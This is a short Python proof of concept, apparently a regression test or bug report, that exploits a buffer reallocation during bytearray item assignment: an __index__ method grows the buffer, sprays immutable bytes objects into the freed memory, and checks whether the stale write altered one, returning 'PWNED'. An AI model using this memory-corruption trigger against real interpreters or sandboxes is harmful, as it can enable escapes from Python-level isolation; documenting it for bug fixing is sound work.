class Growing:
    """Asked for the value after the address was taken, moves the buffer and puts immutable bytes where it was."""

    def __index__(self):
        b.extend(bytes(100_000))
        Growing.there = [bytes(67) for _ in range(1000)]
        return 80


b = bytearray(99)
b[60] = Growing()
return "PWNED" if any(80 in one for one in Growing.there) else "no"
